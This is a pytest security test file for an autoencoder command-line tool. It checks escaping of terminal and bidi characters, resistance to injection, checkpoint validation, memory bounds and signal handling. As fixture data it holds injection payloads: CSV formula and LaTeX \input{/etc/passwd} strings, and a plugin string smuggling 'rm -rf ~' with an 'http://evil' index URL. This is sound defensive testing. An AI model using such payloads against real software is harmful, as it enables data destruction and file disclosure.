"""Files and names that mean harm, or were only unlucky: a sentence each, nothing fetched, run, overwritten or left half-written."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from conftest import TINY, Aegen
from PIL import Image
from safetensors import safe_open
from safetensors.torch import save_file
from torch import nn

from aegen import atomic, registry, untrusted
from aegen.autoencoder import build_model, check_room
from aegen.checkpoint import Checkpoint
from aegen.errors import EnvironmentFault, UsageError
from aegen.evaluation import Evaluation, Number
from aegen.factory import TooMuch, bounded
from aegen.memory import lacks_memory
from aegen.protocols import ImageShape
from aegen.reporting import formats
from aegen.reporting.markup import section
from aegen.reporting.page import page
from aegen.reporting.runs import read_runs
from aegen.reporting.tables import Cell, Row, Table
from aegen.spec import Option, Range, Spec

ESCAPE = "\x1b]0;owned\x07\x1b[31m\x9b2J[red]\u202egnp.\u2028\n"
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def run(trained: Path, tmp_path: Path) -> Path:
    """A copy of the trained run, to be altered."""
    return Path(shutil.copytree(trained, tmp_path / "run"))


def remade(run: Path, change: Callable[[dict[str, Any]], Any], path: str = "made.safetensors") -> Path:
    """The run's checkpoint with another header, changed in place, or with the text that `change` returns."""
    with safe_open(run / "checkpoints/best.safetensors", "pt") as file:
        kept = {key: file.get_tensor(key) for key in file.keys()}  # noqa: SIM118
        header = json.loads(file.metadata()["aegen"])
    text = change(header)
    save_file(kept, path, {"aegen": text if isinstance(text, str) else json.dumps(header)})
    return Path(path)


# ---------------------------------------------------------------------------------------------------- what is shown


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("plain ü 日本 😀 ×", "plain ü 日本 😀 ×"),
        ("\x1b[31m", "\\x1b[31m"),
        ("a\nb\r\tc", "a\\nb\\r\\tc"),
        ("\x9b2J\x7f", "\\x9b2J\\x7f"),
        ("a\u202egnp", "a\\u202egnp"),
        ("\u2028\u2029\x85\u200b", "\\u2028\\u2029\\x85\\u200b"),
        (os.fsdecode(b"\xff.png"), "\\xff.png"),
        ("\U000e0041", "\\U000e0041"),
    ],
)
def test_what_is_not_seen_is_written_out(given: str, expected: str) -> None:
    assert untrusted.shown(given) == expected


def test_what_is_long_is_cut_and_keeps_its_end() -> None:
    text = untrusted.shown("a" * 10**7 + "\x1b" * 10**6 + "z", most=90)
    assert len(text) == 90 and text.startswith("aaa") and " … " in text and text.endswith("z")
    assert untrusted.quoted("x" * 10**6).startswith("'xxx") and len(untrusted.quoted("x" * 10**6)) <= 120
    assert untrusted.quoted(10**5000) == "a number of about 5001 digits"


def test_no_name_reaches_the_terminal_as_it_is(aegen: Aegen, run: Path) -> None:
    name = ESCAPE.replace("\n", "")
    Path("photos").mkdir()
    for stem in ("one", *(f"{i}{name}" for i in range(12))):
        Image.new("RGB", (20, 20)).save(f"photos/{stem}.png")
    Path(f"photos/broken{name}.png").write_bytes(b"x")
    shutil.copytree(run, f"{name}run")
    for line in (
        ["sample", "-c", ESCAPE],
        ["sample", "-n", 1, "-c", f"{name}run"],
        ["sample", "-n", 1, "-c", run, "-o", f"{name}.png"],
        ["reconstruct", "photos", "-c", run, "-o", "out.png"],
        ["train", "--objective", ESCAPE],
        ["train", "--data", ESCAPE],
        ["train", f"--{ESCAPE}", 1],
        ["train", "--set", f"train.{ESCAPE}=1"],
        ["train", "--config", ESCAPE],
        ["train", *TINY, "--data", "photos", "--steps", 1, "--run-dir", f"new{name}"],
        ["export", "-c", f"{name}run"],
        ["evaluate", "-c", f"{name}run", "--metric", ESCAPE],
        ["list-plugins", ESCAPE],
        ["compare", ESCAPE, "b"],
        [ESCAPE],
    ):
        said = aegen(*line)
        assert not UNSEEN.search(said.out + said.err), (line, said)
        if said.code:
            assert len(said.err.splitlines()) == 1, said.err


def test_brackets_of_a_name_are_no_markup(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from aegen.cli.render import table

    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.setenv("COLUMNS", "200")
    table(["[bold]name"], [["[red]x[/red]"], ["\\[link=file:///etc]y[/]"]])
    out = capsys.readouterr().out
    assert "[bold]name" in out and "[red]x[/red]" in out and "\\[link=file:///etc]y[/]" in out


def evil_table() -> Table:
    cell = Cell(1.5, 1.0, 2.0, "best")
    rows = [Row("[m]", "*=cmd|' /C calc'!A0", "lower", (cell, Cell(-2.0))), Row("m", "@x", "", (None, cell))]
    return Table("p\n\\input{/etc/passwd}", "d\u2028\\input{/etc/passwd}\r", ["=1+1;=2", "b\\input{x}%"], rows)


def test_latex_has_no_line_and_no_command_of_a_name() -> None:
    lines = formats.as_latex([evil_table()]).split("\n")
    assert not [line for line in lines if line.startswith("\\input")]
    assert not [line for line in lines if "\\input" in line and not line.startswith("% protocol")]
    assert not re.search("[\r\x85\u2028\u2029]", "".join(lines))
    (row,) = [line for line in lines if "cmd" in line]
    assert row.startswith("{*}=cmd\\textbar{}")  # a star or a bracket after \\ would be its option


def test_csv_has_no_formula() -> None:
    import csv

    found = list(csv.reader(formats.as_csv([evil_table()]).splitlines()))
    assert len(found) == 3
    texts = [cell for line in found for cell in line if not re.fullmatch(r"-?[\d.]*", cell)]
    assert not [cell for cell in texts if cell.lstrip()[:1] in tuple("=+-@") or re.search(r";\s*[=+@-]", cell)]
    assert "-2.0" in found[1]  # a number is none


def test_the_page_says_which_script_may_run() -> None:
    from base64 import b64encode
    from hashlib import sha256

    shown = '<img class="px" width="4" height="4" data-wide="84" alt="">'
    made = page("Kind", "<script>alert(1)</script>\u202e", "", [section("a", "A", shown)], "aegen")
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]*)"', made)
    assert "unsafe" not in policy and "default-src 'none'" in policy
    for tag, kind in (("script", "script-src"), ("style", "style-src")):
        (content,) = re.findall(f"<{tag}>(.*?)</{tag}>", made, re.DOTALL)
        assert f"{kind} 'sha256-{b64encode(sha256(content.encode()).digest()).decode()}'" in policy
    assert "84px" in made and 'style="' not in made and "\u202e" not in made and " onclick" not in made


# ---------------------------------------------------------------------------------------------------- drafts


def test_a_draft_has_a_name_that_nobody_guesses_and_is_nobodys_link(tmp_path: Path) -> None:
    goal, victim = tmp_path / "out.txt", tmp_path / "victim"
    victim.write_text("precious")
    assert len({atomic.draft_of(goal) for _ in range(50)}) == 50

    def attacked(write: bool) -> None:
        with atomic.drafted(goal) as draft:
            draft.unlink()
            draft.symlink_to(victim)
            if write:
                atomic.put_text(draft, "mine")

    with pytest.raises(OSError):
        attacked(write=True)
    assert victim.read_text() == "precious" and [p.name for p in tmp_path.iterdir()] == ["victim"]
    with pytest.raises(OSError, match="something else"):
        attacked(write=False)
    assert not goal.exists() and not goal.is_symlink()


def test_a_draft_that_is_there_already_is_not_written_into(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    taken = tmp_path / ".taken.tmp"
    taken.write_text("theirs")
    monkeypatch.setattr(atomic, "draft_of", lambda path: taken)
    with pytest.raises(FileExistsError):
        atomic.write_text(tmp_path / "out.txt", "mine")
    assert taken.read_text() == "theirs"


@pytest.mark.skipif(os.name != "posix", reason="rights are those of POSIX")
@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o027, 0o640), (0o077, 0o600)])
def test_what_is_written_has_the_rights_that_the_umask_leaves(
    tmp_path: Path, trained: Path, umask: int, mode: int
) -> None:
    from aegen import pictures
    from aegen.checkpoint import save

    header = Checkpoint(trained / "checkpoints/last.safetensors").header
    before = os.umask(umask)
    try:
        atomic.write_text(tmp_path / "a.txt", "a" * 300)
        pictures.save(Image.new("L", (8, 8)), tmp_path / ("n" * 250 + ".png"))
        save(tmp_path / "a.safetensors", {"x": torch.zeros(2)}, header)
    finally:
        os.umask(before)
    assert {path.stat().st_mode & 0o777 for path in tmp_path.iterdir()} == {mode}


# ---------------------------------------------------------------------------------------------------- what a file may ask


def deep(header: dict[str, Any]) -> str:
    return "[" * 50_000 + "]" * 50_000


def digits(header: dict[str, Any]) -> str:
    return json.dumps(header).replace('"step": ', '"step": ' + "9" * 5000)


def sets(*path: str | int, to: Any) -> Callable[[dict[str, Any]], None]:
    """A change of a header: one value of it."""

    def change(header: dict[str, Any]) -> None:
        place: Any = header
        for key in path[:-1]:
            place = place[key]
        place[path[-1]] = to

    return change


HEADERS = {
    "nested": deep,
    "digits": digits,
    "infinite": lambda header: json.dumps(header).replace('"step": ', '"step": 1e999, "was": '),
    "a list": lambda header: "[]",
    "nothing": lambda header: "",
    "wide": sets("spec", "bottleneck", "dim", to=10**9),
    "deep net": sets("spec", "arch", "hidden", to=[16] * 100_000),
    "other net": sets("spec", "arch", "hidden", to=[60_000, 60_000]),
    "large image": sets("image", to=[1, 10**20, 8]),
    "wide image": sets("image", to=[1, 60_000, 60_000]),
    "channels": sets("image", to=[5, 16, 16]),
    "other latent": sets("latent", to=[4, 4]),
    "long latent": sets("latent", to=[1] * 100),
    "huge latent": sets("latent", to=[2**40]),
    "count": sets("data", "count", to=10**25),
    "negative count": sets("data", "count", to=-1),
    "steps": sets("step", to=-1),
    "size": sets("spec", "data", "size", to=10**12),
}


@pytest.mark.parametrize("kind", HEADERS)
def test_a_header_that_makes_no_sense_is_refused_by_every_command(aegen: Aegen, run: Path, kind: str) -> None:
    Image.new("L", (16, 16)).save("a.png")
    made = remade(run, HEADERS[kind])
    for name in ("best", "last"):
        shutil.copy(made, run / f"checkpoints/{name}.safetensors")
    before = {path.name for path in Path().iterdir()} | {"cache"}  # which only holds what can be computed again
    for line in (
        ["sample", "-n", 2, "-c", made],
        ["reconstruct", "a.png", "-c", made],
        ["interpolate", "a.png", "a.png", "-c", made],
        ["export", "-c", made],
        ["evaluate", "-c", made, "--metric", "reconstruction"],
        ["train", "--resume", run, "--epochs", 2],
        ["train", *TINY, "--steps", 1, "--init-from", made, "--run-dir", "new"],
    ):
        said = aegen(*line)
        assert (said.code == 2 and "made.safetensors" in said.err) or (line[0] == "train" and said.code == 2), (
            line,
            said,
        )
    assert {path.name for path in Path().iterdir()} | {"cache"} == before


@pytest.mark.parametrize("neck", registry.names("bottleneck"))
def test_every_bottleneck_is_compared_without_being_built(neck: str) -> None:
    """That is the guard: where it cannot be made without values, it is made as large as a file says."""
    for arch in (Spec("mlp", {"hidden": [8]}), Spec("conv", {"width": 4, "depth": 2, "spatial": True})):
        try:
            real = build_model(arch, Spec(neck), Spec("gaussian"), ImageShape(1, 16, 16), classes=10)
        except UsageError:
            continue  # one that takes maps, or vectors
        state = torch.get_rng_state()
        with torch.device("meta"), torch.no_grad():
            meta = build_model(arch, Spec(neck), Spec("gaussian"), ImageShape(1, 16, 16), classes=10)
        assert torch.equal(state, torch.get_rng_state())
        sizes = [{k: (v.shape, v.dtype) for k, v in made.state_dict().items()} for made in (real, meta)]
        assert sizes[0] == sizes[1] and meta.latent_shape == real.latent_shape


def test_layers_are_counted_while_they_are_made() -> None:
    with pytest.raises(TooMuch), bounded(100):
        nn.Sequential(*(nn.ReLU() for _ in range(200)))
    nn.Sequential(*(nn.ReLU() for _ in range(200)))


def test_a_checkpoint_of_whole_numbers_is_no_net(aegen: Aegen, run: Path) -> None:
    path = run / "checkpoints/best.safetensors"
    with safe_open(path, "pt") as file:
        kept, about = {key: file.get_tensor(key) for key in file.keys()}, file.metadata()  # noqa: SIM118
    kept["model.decoder.1.weight"] = kept["model.decoder.1.weight"].long()
    save_file(kept, "whole.safetensors", {"aegen": about["aegen"]})
    aegen("sample", "-c", "whole.safetensors").refused(2, "model.decoder.1.weight holds whole numbers", "float32")


def test_a_checkpoint_fetches_nothing(aegen: Aegen, run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[Any] = []

    def refuse(*args: Any, **kwargs: Any) -> Any:
        asked.append(args)
        raise OSError("no network in tests")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)

    def wants(header: dict[str, Any]) -> None:
        header["spec"]["data"].update(name="mnist", download=True, root="fetched")

    made = remade(run, wants)
    shutil.copy(made, run / "checkpoints/last.safetensors")
    Path("run.toml").write_text('data = {name = "mnist", download = true, root = "fetched"}\n')
    for line in (
        ["evaluate", "-c", made, "--metric", "reconstruction"],
        ["sample", "-c", made, "--sampler", "gaussian"],
        ["train", "--resume", run, "--epochs", 2],
        ["train", "--config", "run.toml"],
    ):
        aegen(*line).refused(4, "mnist is not in", "--download")
    assert not asked and not Path("fetched").exists()
    aegen("train", "--config", "run.toml", "--download").refused(4, "could not be downloaded")
    assert asked


def test_a_checkpoint_has_only_its_own_images_looked_at(aegen: Aegen, run: Path) -> None:
    Path("private").mkdir()
    for i in range(12):
        Image.fromarray(np.random.default_rng(i).integers(0, 255, (16, 16), dtype=np.uint8)).save(f"private/{i}.png")
    made = remade(run, sets("spec", "data", "name", to="private"))
    words = ["evaluate", "-c", made, "--metric", "reconstruction"]
    aegen(*words).refused(2, "'private'", "--data private")
    aegen(*words, "--data", "private").worked()
    aegen("sample", "-c", made, "--sampler", "gaussian").refused(2, "'private'")
    # Nor those of a run of one's own that are others by now.
    aegen("train", *TINY, "--data", "private", "--batch-size", 4, "--steps", 2, "--run-dir", "mine").worked()
    Path("private/0.png").unlink()
    aegen("evaluate", "-c", "mine").refused(2, "private holds other images", "--data private")
    aegen("sample", "-c", "mine", "--sampler", "gaussian").refused(2, "private", "other images")


def test_weights_that_a_checkpoint_names_are_read_only_if_they_are_typed(
    aegen: Aegen, run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    Path("w.safetensors").write_bytes(b"secret")

    def wants(header: dict[str, Any]) -> None:
        own = {"name": "vae+perceptual", "perceptual": {"features": "vgg16", "weights": "w.safetensors"}}
        header["spec"]["objective"] = own

    made = remade(run, wants)
    words = ["evaluate", "-c", made, "--metric", "reconstruction"]
    aegen(*words).refused(2, "'w.safetensors'", "not read", "--component w.safetensors")
    aegen(*words, "--component", "w.safetensors").refused(2, "w.safetensors is no safetensors file")


def test_no_command_that_a_file_made_up_is_advised(aegen: Aegen, run: Path) -> None:
    def wants(header: dict[str, Any]) -> None:
        header["plugins"]["bottleneck:nope"] = {"package": "x --index-url http://evil; rm -rf ~", "version": "1"}

    said = aegen("sample", "-c", remade(run, wants))
    said.refused(3, "'nope'", "ask whoever made the file")
    assert "pip install" not in said.err


def test_a_text_named_latest_points_nowhere_else(aegen: Aegen, trained: Path) -> None:
    Path("runs").mkdir()
    Path("runs/latest").write_text(str(trained))
    aegen("sample", "-n", 1).refused(2, "there is no run under ./runs")


# ---------------------------------------------------------------------------------------------------- JSON, TOML, files


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("[" * 5000 + "]" * 5000, "nested deeper than 64"),
        ("[" * 70 + "]" * 70, "nested deeper than 64"),
        ("9" * 5000, "beyond 100 bits"),
        (str(2**101), "beyond 100 bits"),
    ],
)
def test_json_and_toml_are_read_or_refused_in_words(text: str, reason: str) -> None:
    with pytest.raises(ValueError, match=reason):
        untrusted.parse_json(text)
    with pytest.raises(ValueError, match=reason):
        untrusted.parse_toml(f"a = {text}")


def test_dotted_keys_a_thousand_deep_are_refused() -> None:
    with pytest.raises(ValueError, match="nested deeper"):
        untrusted.parse_toml(".".join("a" * 1000) + " = 1")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no pipes of that kind")
def test_a_pipe_is_not_waited_for(aegen: Aegen, run: Path) -> None:
    for name in ("a.toml", "a.npy", "a.tar", "a.safetensors", "photos/a.png"):
        Path(name).parent.mkdir(exist_ok=True)
        os.mkfifo(name)
    for file in ("metrics.jsonl", "environment.json"):
        (run / file).unlink()
        os.mkfifo(run / file)
    for i in range(12):
        Image.new("L", (16, 16)).save(f"photos/{i}.png")
    alarm = threading.Timer(60, os._exit, [99])
    alarm.start()
    try:
        aegen("train", "--config", "a.toml").refused(2, "a.toml", "pipe")
        aegen("train", "--data", "a.npy").refused(2, "a.npy", "pipe")
        aegen("train", "--data", "a.tar").refused(2, "a.tar")
        aegen("sample", "-c", "a.safetensors").refused(2, "a.safetensors")
        aegen("train", *TINY, "--data", "photos", "--steps", 1).worked()
        aegen("reconstruct", "photos/a.png", "-c", run).refused(2, "photos/a.png", "pipe")
        aegen("evaluate", "-c", run, "--metric", "reconstruction", "--limit", 8).worked()
        (found,) = read_runs([run])
        assert found.notes == ["environment.json is missing or damaged", "metrics.jsonl is missing or cannot be read"]
    finally:
        alarm.cancel()


@pytest.mark.parametrize(
    "name", ["{.tar", "~nobody-of-that-name/x", "x{0..99999999999}.tar", "a" * 5000, "{a,b}{0..9.tar"]
)
def test_odd_spellings_of_data_are_refused(aegen: Aegen, name: str) -> None:
    aegen("train", "--data", name, "--dry-run").refused(2, "--data")


def test_an_archive_of_something_else_is_no_array(aegen: Aegen) -> None:
    import zipfile

    with zipfile.ZipFile("raw.npz", "w") as archive:
        archive.writestr("images", b"x")
    aegen("train", "--data", "raw.npz").refused(2, "raw.npz", "images")


METRICS = """[1]
"step"
{"step": 1e999, "split": "train", "loss": 1}
{"step": -3, "split": "train", "loss": 1}
{"step": 1, "split": "train", "loss": "x", "images_per_second": "fast"}
{"step": 2, "split": "train", "loss": 1e308, "images_per_second": 1e-300}
{"step": 3, "split": "train", "loss": -1e308}
{"step": 4, "split": "validation", "loss": null, "kl": NaN}
{"step": 5, "split": "train", "loss": NINES}
DEEP
{"step": 6, "split": "validation", "loss": 2.5}
""".replace("NINES", "9" * 400).replace("DEEP", "[" * 5000)


def test_broken_metrics_neither_stop_a_report_nor_a_resumption(aegen: Aegen, run: Path) -> None:
    (run / "metrics.jsonl").write_bytes(METRICS.encode() + b"\xff\xfe\x00\n")
    (run / "environment.json").write_text('{"device": {"processes": "many"}, "versions": [1]}')
    aegen("report", run, "--no-evaluate", "-o", "page.html").worked()
    assert "environment.json is missing or damaged" in Path("page.html").read_text()
    aegen("train", "--resume", run, "--epochs", 2).worked()
    steps = [json.loads(line).get("step") for line in (run / "metrics.jsonl").read_text().splitlines()]
    assert None not in steps


@pytest.mark.parametrize(
    "change",
    [{"model": {"image": 3}}, {"data": []}, {"numbers": 7}, {"protocol": {"name": ESCAPE}}, {"skipped": {"a": ESCAPE}}],
)
def test_an_odd_evaluation_is_shown_or_left_out(aegen: Aegen, run: Path, change: dict[str, Any]) -> None:
    number = Number("m", ESCAPE, 1e308, -1e308, 1e308, "lower")
    made = Evaluation("c", {"image": [1, 16, 16]}, {"name": "digits"}, {"name": "aegen-1"}, [number])
    (run / "evaluations").mkdir()
    (run / "evaluations/odd.json").write_text(json.dumps({**made.to_dict(), **change}))
    other = shutil.copytree(run, "other")
    for form in ("table", "latex", "csv", "json"):
        out = ["-o", "page.html"] if form == "table" else []
        said = aegen("compare", run, other, "--no-evaluate", "--format", form, *out).worked()
        assert form == "json" or not UNSEEN.search(said.out + said.err), said


# ---------------------------------------------------------------------------------------------------- bounds and memory


def test_whatever_a_component_forgets_to_bound_is_bounded() -> None:
    with pytest.raises(UsageError, match="at most 2147483647"):
        Option("n", int, 1, range=Range(1)).check(2**40, "n")
    with pytest.raises(UsageError, match=r"at most 3e\+38"):
        Option("x", float, 1.0).check("1e300", "x")
    with pytest.raises(UsageError, match="at most 1,000"):
        Option("l", list[int], [1]).check([1] * 1001, "l")
    with pytest.raises(UsageError, match="a number of about"):
        Option("n", int, 1).check(10**50, "n")
    assert Option("seed", int, 1, range=Range(0, 2**32 - 1)).check(2**32 - 1, "seed") == 2**32 - 1


def test_a_model_that_no_memory_holds_is_refused_before_it_is_built() -> None:
    def build() -> nn.Module:
        return nn.Linear(2**20, 2**12)

    check_room(lambda: nn.Linear(4, 4), have=2 * 4 * 20)
    with pytest.raises(EnvironmentFault, match=r"training the model takes at least 0.0 GB"):
        check_room(lambda: nn.Linear(4, 4), have=2 * 4 * 20 - 1)
    with pytest.raises(EnvironmentFault, match=r"takes at least 34.4 GB, and there are 1.0 GB"):
        check_room(build, have=10**9)
    with pytest.raises(UsageError, match="larger than any memory"):
        check_room(lambda: nn.Linear(2**40, 2**40))


@pytest.mark.parametrize(
    "line",
    [
        ["train", "--arch", "mlp", "--arch.hidden", "[65536,65536,65536,65536,65536,65536,65536,65536,65536,65536]"],
        ["train", "--arch", "mlp", "--set", "log.images=2000000000"],
        ["train", "--arch", "conv", "--arch.width", 2**63 - 1],
        ["train", "--latent-dim", 10**8],
        ["sample", "-n", 2 * 10**9, "--each", "-o", "many"],
        ["train", "--size", 8192],
    ],
)
def test_what_can_only_fail_is_refused_at_once(
    aegen: Aegen, trained: Path, line: list[object], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("aegen.memory.most", lambda: 8 * 10**9)
    said = aegen(*line, *(["-c", trained] if line[0] == "sample" else ["--dry-run"]))
    assert said.code in (2, 4), said
    assert not Path("many").exists()


@pytest.mark.parametrize(
    "error",
    [
        MemoryError(),
        RuntimeError(
            "[enforce fail at alloc_cpu.cpp:118] DefaultCPUAllocator: can't allocate memory: you tried to allocate 9 bytes"
        ),
        torch.OutOfMemoryError("CUDA out of memory. Tried to allocate 9 GiB"),
        OSError(12, "Cannot allocate memory"),
    ],
)
def test_no_memory_is_the_machines_fault_whoever_says_it(
    aegen: Aegen, trained: Path, monkeypatch: pytest.MonkeyPatch, error: Exception
) -> None:
    assert lacks_memory(error) and not lacks_memory(RuntimeError("mat1 and mat2 shapes cannot be multiplied"))

    def starved(*args: object, **kwargs: object) -> None:
        raise error

    monkeypatch.setattr("aegen.inference.sampling.draw_latents", starved)
    aegen("sample", "-c", trained).refused(4, "not enough memory", "fewer at once")


# ---------------------------------------------------------------------------------------------------- folders that take nothing


def test_numbers_that_cannot_be_kept_with_the_run_are_kept_here(aegen: Aegen, run: Path) -> None:
    (run / "evaluations").write_text("a file where a folder should be")
    said = aegen("evaluate", "-c", run, "--metric", "reconstruction").worked()
    assert "cannot be kept in" in said.err and said.out.splitlines()[-1] == "aegen-1.json"
    assert json.loads(Path("aegen-1.json").read_text())["numbers"]


@pytest.mark.parametrize("place", ["nowhere/x.json", "run"])
def test_a_place_where_no_numbers_can_be_is_refused_before_the_work(aegen: Aegen, run: Path, place: str) -> None:
    said = aegen("evaluate", "-c", run, "--metric", "reconstruction", "-o", place)
    said.refused(2, "exists already" if place == "run" else f"cannot write {place}", "-o")
    assert "sampler" not in said.err


def process(environment: dict[str, str], *words: object, **options: Any) -> subprocess.Popen[str]:
    """The command line in a process of its own, which Ctrl-C reaches."""
    line = [sys.executable, "-m", "aegen", *map(str, words)]
    wanted = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True, "env": environment, **options}
    if os.name == "posix":
        wanted["preexec_fn"] = lambda: signal.signal(signal.SIGINT, signal.default_int_handler)
    return subprocess.Popen(line, **wanted)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="there is no full device")
@pytest.mark.parametrize("words", [["list-plugins", "--no-import"], ["--help"], ["--version"]])
def test_a_full_stdout_is_told_in_a_sentence(environment: dict[str, str], words: list[str]) -> None:
    with open("/dev/full", "w") as full:
        running = process(environment, *words, stdout=full)
        _, err = running.communicate(timeout=120)
    assert running.returncode == 1 and err.startswith("error: cannot write the output (No space left"), err
    assert len(err.splitlines()) == 1


@pytest.mark.skipif(os.name != "posix", reason="file descriptors are those of POSIX")
def test_a_closed_stdout_or_stderr_does_no_harm(environment: dict[str, str]) -> None:
    shell = f"{sys.executable} -m aegen"
    for line, code in ((f"{shell} list-plugins --no-import >&-", 0), (f"{shell} nothing 2>&-", 2)):
        done = subprocess.run(["sh", "-c", line], env=environment, capture_output=True, text=True, timeout=120)
        assert done.returncode == code and not done.stdout and not done.stderr, done


# ---------------------------------------------------------------------------------------------------- signals


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="what a process has loaded is asked of /proc")
@pytest.mark.parametrize(
    ("name", "words", "moment"),
    [
        ("SIGINT", ["train", "--arch", "mlp", "--epochs", "999", "--run-dir", "new"], "images:"),
        ("SIGTERM", ["sample", "-c", "{run}", "-n", "2000000", "--each", "-o", "new"], "sampler"),
        ("SIGUSR1", ["evaluate", "-c", "{run}", "--metric", "nll", "--nll.samples", "60000", "-o", "new.json"], ""),
        ("SIGHUP", ["export", "-c", "{run}", "-o", "new.safetensors"], ""),
    ],
)
def test_a_signal_ends_every_command_with_a_sentence(
    environment: dict[str, str], tmp_path: Path, trained: Path, name: str, words: list[str], moment: str
) -> None:
    running = process(environment, *(word.format(run=trained) for word in words), cwd=tmp_path)
    assert running.stderr is not None
    heard = ""
    if moment:
        while moment not in heard and running.poll() is None:
            heard += running.stderr.readline()
    else:
        # In its imports, or later where the machine is slow: by then it listens, and the work takes longer than that.
        maps = Path(f"/proc/{running.pid}/maps")
        while "libtorch" not in maps.read_text() and running.poll() is None:
            time.sleep(0.01)
    for _ in range(2):  # an impatient finger
        running.send_signal(getattr(signal, name))
        time.sleep(0.05)
    _, rest = running.communicate(timeout=120)
    lines = (heard + rest).splitlines()
    assert running.returncode == 130, lines
    assert not [line for line in lines if line.startswith("error: ")] and "Traceback" not in heard + rest
    assert "interrupted" in lines[-1] or "stopped at step" in lines[-1]
    assert not list(tmp_path.rglob("*.tmp"))


@pytest.mark.skipif(os.name != "posix", reason="signals are those of POSIX")
def test_a_signal_is_not_lost_in_a_destructor(environment: dict[str, str]) -> None:
    """Python drops what is raised there, and would go on as if nobody had asked."""
    code = (
        "import os, signal, time, aegen.cli as cli\n"
        "class Thing:\n    def __del__(self):\n        os.kill(os.getpid(), signal.SIGTERM)\n        for _ in range(99): pass\n"
        "def work(words, asked):\n    for _ in range(3):\n        thing = Thing(); del thing\n"
        "    time.sleep(20)\n    print('went on')\n"
        "cli.main.__globals__['_main'] = work\ncli.main(['x'])"
    )
    done = subprocess.run([sys.executable, "-c", code], env=environment, capture_output=True, text=True, timeout=60)
    assert done.returncode == 130, done
    assert done.stdout == "" and "Traceback" not in done.stderr and "interrupted" in done.stderr, done


def test_a_signal_after_the_loop_says_where_the_run_stands(aegen: Aegen, monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(trainer: object, run: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("aegen.training.run._finish", interrupted)
    said = aegen("train", *TINY, "--steps", 2, "--run-dir", "new")
    said.refused(130, "step 2 of 2", "last.safetensors", "aegen train --resume new")
    assert Checkpoint(Path("new/checkpoints/last.safetensors")).header["step"] == 2


@pytest.mark.parametrize("line", [["sample", "-n", 1], ["list-plugins"], ["export"], ["report"]])
def test_ctrl_c_anywhere_is_130_and_a_sentence(
    aegen: Aegen, trained: Path, line: list[object], monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    for place in (
        "inference.sampling.load",
        "inference.exporting.load",
        "registry.every_component",
        "compare",
    ):
        monkeypatch.setattr(f"aegen.{place}", interrupted)
    where = {"sample": ["-c", trained], "export": ["-c", trained], "report": [trained]}.get(str(line[0]), [])
    aegen(*line, *where).refused(130, "interrupted")
